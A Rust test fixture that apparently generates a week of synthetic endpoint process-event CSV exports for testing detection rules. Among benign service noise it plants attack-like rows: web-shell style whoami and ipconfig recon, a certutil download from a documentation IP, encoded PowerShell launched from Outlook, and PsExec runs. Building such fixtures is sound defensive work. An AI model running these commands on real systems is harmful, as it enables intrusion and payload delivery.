//! Exports of seven days: what happened on which device, among much that is of no interest.

use crate::support::Dice;
use crate::support::exports::{Row, Spelling, to_csv};

/// How many days there are; the first is 2026-05-04.
pub const DAYS: usize = 7;
/// The day on which the file of a laptop that was away comes.
pub const LATE_DAY: usize = 4;
/// The day whose export breaks off in the middle of its last row.
const BROKEN_DAY: usize = 5;
const DEVICES: [&str; 6] = ["app02", "dc01", "intra04", "web01", "web02", "ws07"];
const LAPTOP: &str = "lap09";
const COLUMNS: [&str; 11] = [
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "FileName",
    "ProcessId",
    "ProcessCommandLine",
    "AccountDomain",
    "AccountName",
    "InitiatingProcessFileName",
    "InitiatingProcessParentFileName",
    "ReportId",
];

/// What rules look for: day, time, device, initiating process, process, account, command line.
const STORY: &str = "
1 10:02 web01 w3wp.exe cmd.exe shop cmd.exe /c whoami
2 10:05 web01 w3wp.exe cmd.exe shop cmd.exe /c ipconfig /all
3 11:40 web01 w3wp.exe CMD.EXE SHOP CMD.EXE  /c   WhoAmI
4 02:15 web01 w3wp.exe cmd.exe shop cmd.exe /c certutil -urlcache -f http://198.51.100.23/u.dat u.dat
5 03:20 web01 w3wp.exe cmd.exe shop cmd.exe /c whoami
6 09:00 web01 w3wp.exe cmd.exe shop cmd.exe /c whoami
7 09:00 web01 w3wp.exe cmd.exe shop cmd.exe /c whoami
1 08:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.5
1 20:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.5
2 08:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.5
2 20:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.6
3 08:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.5
4 08:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.5
5 08:00 app02 tomcat9.exe cmd.exe svc-monitor cmd.exe /c ping -n 1 10.0.0.5
2 12:00 intra04 httpd.exe cmd.exe svc-deploy cmd.exe /c timeout /t 5
3 12:00 intra04 httpd.exe cmd.exe svc-deploy cmd.exe /c timeout /t 5
4 12:00 intra04 httpd.exe cmd.exe svc-deploy cmd.exe /c timeout /t 30
5 12:00 intra04 httpd.exe cmd.exe root cmd.exe /c timeout /t 5
7 12:00 intra04 httpd.exe cmd.exe svc-deploy cmd.exe /c timeout /t 30
4 21:00 dc01 httpd.exe cmd.exe svc-deploy cmd.exe /c timeout /t 9
3 13:00 web02 w3wp.exe cmd.exe scanner cmd.exe /c systeminfo
4 13:00 web02 w3wp.exe cmd.exe scanner cmd.exe /c systeminfo
5 13:00 web02 w3wp.exe cmd.exe scanner cmd.exe /c systeminfo
2 07:30 lap09 httpd.exe powershell.exe dev powershell.exe wget http://build/tool.zip
1 09:10 ws07 outlook.exe powershell.exe ana powershell.exe -enc QQBBAEEA
2 09:12 ws07 outlook.exe powershell.exe ana powershell.exe -enc QQBBAEEA
3 09:30 ws07 outlook.exe powershell.exe ana powershell.exe -enc QgBCAEIA
4 09:31 ws07 outlook.exe powershell.exe ana powershell.exe -enc QwBDAEMA
5 09:31 ws07 outlook.exe powershell.exe ana powershell.exe -enc QwBDAEMA
6 09:31 ws07 outlook.exe powershell.exe eva powershell.exe -enc QwBDAEMA
2 15:00 dc01 services.exe psexesvc.exe admin psexesvc.exe
3 15:00 dc01 services.exe psexesvc.exe admin psexesvc.exe
6 15:00 dc01 services.exe psexesvc.exe admin psexesvc.exe
1 16:00 web02 explorer.exe wscript.exe ben wscript.exe logon.vbs
1 16:05 ws07 explorer.exe wscript.exe ana wscript.exe invoice.vbs
7 16:00 ws07 explorer.exe wscript.exe ana wscript.exe other.vbs
5 23:58 web02 w3wp.exe cmd.exe iusr cmd.exe /c ipconfig
";

/// An event of one day.
struct Event {
    day: usize,
    /// Since midnight.
    minute: usize,
    row: Row,
}

impl Event {
    fn new(day: usize, minute: usize, cells: [&str; 5], command: &str, number: usize) -> Self {
        let [device, initiating, file, account, parent] = cells;
        let (hour, rest) = (minute / 60, minute % 60);
        let row = Row::from([
            ("Timestamp", format!("2026-05-{:02}T{hour:02}:{rest:02}:{:02}Z", 3 + day, number % 60)),
            ("DeviceId", format!("id-of-{device}")),
            ("DeviceName", format!("{device}.contoso.example")),
            ("FileName", file.to_owned()),
            ("ProcessId", (1000 + number).to_string()),
            ("ProcessCommandLine", command.to_owned()),
            ("AccountDomain", "contoso".to_owned()),
            ("AccountName", account.to_owned()),
            ("InitiatingProcessFileName", initiating.to_owned()),
            ("InitiatingProcessParentFileName", parent.to_owned()),
            ("ReportId", number.to_string()),
        ]);
        Self { day, minute, row }
    }

    fn is_of(&self, device: &str) -> bool {
        self.row["DeviceId"].ends_with(device)
    }
}

/// Every event of the week, in the order of time.
fn events() -> Vec<Event> {
    let mut events: Vec<Event> =
        STORY.trim().lines().enumerate().map(|(number, line)| read(line, number)).collect();
    let mut dice = Dice(7);
    for day in 1..=DAYS {
        for device in DEVICES.into_iter().chain((day < LATE_DAY).then_some(LAPTOP)) {
            for _ in 0..4 {
                let (minute, job) = (dice.below(24 * 60), dice.below(50));
                let cells = [device, "services.exe", "svchost.exe", "system", "wininit.exe"];
                let command = format!("svchost.exe -k netsvcs -s job{job}");
                events.push(Event::new(day, minute, cells, &command, events.len()));
            }
        }
    }
    events.sort_by_key(|event| (event.day, event.minute));
    events
}

fn read(line: &str, number: usize) -> Event {
    let parts: Vec<&str> = line.splitn(7, ' ').collect();
    let [day, time, device, initiating, file, account, command] = parts.as_slice() else { panic!("{line}") };
    let (hour, minute) = time.split_once(':').unwrap();
    let minute = hour.parse::<usize>().unwrap() * 60 + minute.parse::<usize>().unwrap();
    let cells = [*device, *initiating, *file, *account, "services.exe"];
    Event::new(day.parse().unwrap(), minute, cells, command, number)
}

fn csv<'a>(events: impl Iterator<Item = &'a Event>) -> String {
    let rows: Vec<Row> = events.map(|event| event.row.clone()).collect();
    to_csv(&rows, &COLUMNS, Spelling { bom: false, crlf: true })
}

/// The export of a day: from six in the evening before to midnight, without the laptop, which is away.
pub fn of_day(day: usize) -> String {
    let events = events();
    let is_in = |event: &&Event| {
        (event.day == day || event.day + 1 == day && event.minute >= 18 * 60) && !event.is_of(LAPTOP)
    };
    let mut text = csv(events.iter().filter(is_in));
    if day == BROKEN_DAY {
        text.truncate(text.len() - 60);
    }
    text
}

/// All events of the laptop.
pub fn of_laptop() -> String {
    csv(events().iter().filter(|event| event.is_of(LAPTOP)))
}
